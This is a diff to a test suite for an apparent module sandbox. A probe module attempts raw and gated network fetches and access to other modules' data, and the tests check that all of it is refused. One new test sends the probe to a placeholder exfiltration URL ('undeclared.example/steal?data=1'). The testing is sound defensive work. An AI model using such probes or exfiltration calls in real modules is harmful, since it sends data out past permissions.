@@ -54,7 +54,7 @@ export default defineModule({
       async run(ctx) {
         const seen = [];
         seen.push("env:" + typeof globalThis.env + "," + typeof globalThis.DB + "," + typeof globalThis.LOADER);
-        try { await fetch(ctx.argv[0]); seen.push("fetch:ok"); } catch (e) { seen.push("fetch:" + e.name); }
+        try { const r = await fetch(ctx.argv[0]); seen.push(r.status === 403 ? "fetch:refused" : "fetch:" + r.status); } catch (e) { seen.push("fetch:" + e.name); }
         try { await ctx.http.fetch(ctx.argv[0]); seen.push("http:ok"); } catch (e) { seen.push("http:" + e.message); }
         seen.push("own:" + (await ctx.db.get("planted")));
         await ctx.respond(seen.join(" "));
@@ -101,9 +101,17 @@ describe("the sandbox runner", () => {
     expect(answer).toContain("http:Probe: ctx.http.fetch allows https only");
     expect(answer).toContain("own:undefined");
     // The raw fetch met the gateway, which refused it: the host saw nothing.
-    expect(answer).toMatch(/fetch:ok|fetch:\w+Error/);
+    expect(answer).toContain("fetch:refused");
     const reached = (await hs.requests()).slice(before).filter((r) => r.path.includes("whoami"));
     expect(reached).toEqual([]);
+  });
+
+  it("answers a reach for an undeclared host with an error, through ctx.http and raw fetch", async () => {
+    const rt = await sandboxed({ Probe: PROBE });
+    const answer = await say(rt, ".probe https://undeclared.example/steal?data=1", STRANGER);
+    expect(answer).toContain("http:Probe: undeclared.example is not in the module's network list");
+    // The raw fetch went to the gateway, which refused it without any request going out.
+    expect(answer).toContain("fetch:refused");
   });
 
   it("refuses a module that throws at its top level, or lies about its name, and keeps the rest", async () => {
